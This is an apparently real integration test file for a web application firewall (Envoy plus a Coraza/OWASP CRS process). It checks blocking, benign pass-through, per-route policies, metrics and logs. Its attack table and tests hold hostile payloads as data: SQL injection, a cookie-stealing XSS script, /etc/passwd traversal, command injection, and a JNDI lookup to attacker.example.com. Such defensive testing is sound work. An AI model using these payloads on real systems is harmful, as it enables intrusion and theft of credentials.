// The Engine's WAF in the data path (issue 12): a real Envoy whose ext_proc filter calls the real
// mgw-waf process (Coraza + OWASP CRS) over a unix socket, in front of a real upstream.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freePort, startEnvoy, startWaf, wafEnvoyBootstrap, waitFor } from '../harness/index.js';
import type { EnvoyHandle, WafHandle } from '../harness/index.js';
import { startUpstream, type Upstream } from './upstream.js';

const WAF_CONFIG = {
  defaultPolicy: 'standard',
  policies: {
    standard: { level: 'Standard' },
    logonly: { level: 'Standard', threatHandlingMode: 'LogOnly' },
    // `html` carries markup on /exc/ only; everything else there is inspected as usual.
    exception: { level: 'Standard', exceptions: [{ family: 'xss', parameters: ['html'], paths: ['/exc/'] }] },
  },
};

const ROUTES = [
  { prefix: '/std/', route: 'default/std', policy: 'standard' },
  { prefix: '/log/', route: 'default/log', policy: 'logonly' },
  { prefix: '/exc/', route: 'default/exc', policy: 'exception' },
  { prefix: '/off/', route: 'default/off', policy: undefined },
];

const ATTACKS: Record<string, { payload: string; family: string }> = {
  'SQL injection': { payload: "1' OR '1'='1' --", family: 'sql' },
  XSS: { payload: '<script>alert(document.cookie)</script>', family: 'xss' },
  'path traversal': { payload: '../../../../etc/passwd', family: 'lfi' },
  'command injection': { payload: ';cat /etc/passwd', family: 'rce-unix' },
  JNDI: { payload: '${jndi:ldap://attacker.example.com/a}', family: 'java' },
};

type Place = 'query' | 'form' | 'json' | 'cookie';
const PLACES: Place[] = ['query', 'form', 'json', 'cookie'];

let upstream: Upstream;
let waf: WafHandle;
let envoy: EnvoyHandle;
let base: string;

beforeAll(async () => {
  upstream = await startUpstream();
  waf = await startWaf({ config: WAF_CONFIG });
  const listenerPort = await freePort();
  envoy = await startEnvoy({ name: 'envoy-waf', bootstrap: wafEnvoyBootstrap({ listenerPort, upstreamPort: upstream.port, waf, routes: ROUTES }) });
  const { host, port } = envoy.address(listenerPort);
  base = `http://${host}:${port}`;
});

afterAll(async () => {
  await envoy?.stop();
  await waf?.stop();
  await upstream?.close();
});

/** One request with `value` as parameter `name` in the given place. */
function send(path: string, place: Place, name: string, value: string): Promise<Response> {
  const headers: Record<string, string> = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) waf-itest' };
  switch (place) {
    case 'query':
      return fetch(`${base}${path}?${new URLSearchParams({ [name]: value })}`, { headers });
    case 'form':
      return fetch(`${base}${path}`, { method: 'POST', headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ [name]: value }).toString() });
    case 'json':
      return fetch(`${base}${path}`, { method: 'POST', headers: { ...headers, 'content-type': 'application/json' }, body: JSON.stringify({ [name]: value, other: 'fine' }) });
    case 'cookie':
      return fetch(`${base}${path}`, { headers: { ...headers, cookie: `${name}=${encodeURIComponent(value)}` } });
  }
}

describe('Standard level blocks the classic attacks', () => {
  for (const [attack, { payload, family }] of Object.entries(ATTACKS)) {
    for (const place of PLACES) {
      it(`${attack} in the ${place} → 403`, async () => {
        const before = upstream.seen.length;
        const res = await send('/std/search', place, 'q', payload);
        const body = (await res.json()) as { rule: number; family: string };
        expect(res.status).toBe(403);
        // Nothing of a blocked request reaches the upstream, not even its headers.
        expect(upstream.seen.length).toBe(before);
        expect(res.headers.get('x-mgw-waf-rule')).toBe(String(body.rule));
        expect(res.headers.get('content-type')).toBe('application/json');
        // A cookie is not URL-decoded by CRS: the same payload may score under a neighbour family there.
        if (place !== 'cookie') expect(body.family).toBe(family);
      });
    }
  }
});

describe('benign requests pass', () => {
  const benign = { name: "O'Reilly", plan: 'select a plan', note: 'drop by tomorrow', quote: 'She said "hello" and left' };
  for (const place of PLACES.filter((p) => p !== 'cookie')) {
    for (const [name, value] of Object.entries(benign)) {
      it(`${name}=${value} in the ${place} → 200`, async () => {
        const before = upstream.seen.length;
        const res = await send('/std/items', place, name, value);
        expect(res.status).toBe(200);
        expect(await res.text()).toBe('ok');
        expect(upstream.seen.length).toBe(before + 1);
      });
    }
  }

  it('a 1 KB JSON document of ordinary text → 200', async () => {
    const doc = { customer: { name: "Jane O'Reilly", email: 'jane@example.com' }, items: [{ sku: 'A-100', note: 'select a plan that fits' }], comment: 'drop by tomorrow, ring twice', padding: 'lorem ipsum '.repeat(70) };
    const res = await fetch(`${base}/std/orders`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(doc) });
    expect(res.status).toBe(200);
  });
});

describe('policies per route', () => {
  it('LogOnly lets a flagged request through and logs one line without the payload', async () => {
    const payload = "1' OR '1'='1' --";
    const res = await send('/log/search', 'query', 'q', payload);
    expect(res.status).toBe(200);
    const line = await waitFor(() => waf.logLines().find((l) => l.msg === 'waf threat' && l.route === 'default/log'), { timeoutMs: 5_000, what: 'the LogOnly log line' });
    expect(line).toMatchObject({ action: 'logged', policy: 'logonly', family: 'sql', method: 'GET', path: '/log/search' });
    expect(typeof line.ruleId).toBe('number');
    expect(JSON.stringify(line)).not.toContain("'1'='1");
  });

  it('an exception lets the named parameter through on its path, and only it', async () => {
    const markup = '<script>alert(document.cookie)</script>';
    expect((await send('/exc/page', 'form', 'html', markup)).status).toBe(200);
    expect((await send('/exc/page', 'json', 'html', markup)).status).toBe(200);
    expect((await send('/exc/page', 'form', 'title', markup)).status).toBe(403);
    // The same parameter on another route's path is inspected.
    expect((await send('/std/page', 'form', 'html', markup)).status).toBe(403);
  });

  it('a route with the WAF disabled (Unfiltered) never reaches it', async () => {
    expect((await send('/off/search', 'query', 'q', "1' OR '1'='1' --")).status).toBe(200);
  });
});

describe('observability', () => {
  it('a blocked request increments the threat counter of its route and family', async () => {
    const labels = 'action="blocked",family="sql",route="default/std"';
    const before = await waf.metric('mgw_waf_threats_total', labels);
    expect((await send('/std/search', 'query', 'id', "1' UNION SELECT password FROM users --")).status).toBe(403);
    expect(await waf.metric('mgw_waf_threats_total', labels)).toBe(before + 1);
    expect(await waf.metric('mgw_waf_requests_total', 'policy="standard",route="default/std"')).toBeGreaterThan(0);
  });

  it('each blocked request is one JSON log line with route, family and rule', () => {
    const blocked = waf.logLines().filter((l) => l.msg === 'waf threat' && l.action === 'blocked');
    expect(blocked.length).toBeGreaterThan(0);
    for (const line of blocked) {
      expect(line).toMatchObject({ route: expect.any(String), family: expect.any(String), ruleId: expect.any(Number) });
      expect(String(line.path)).not.toContain('?');
    }
  });
});
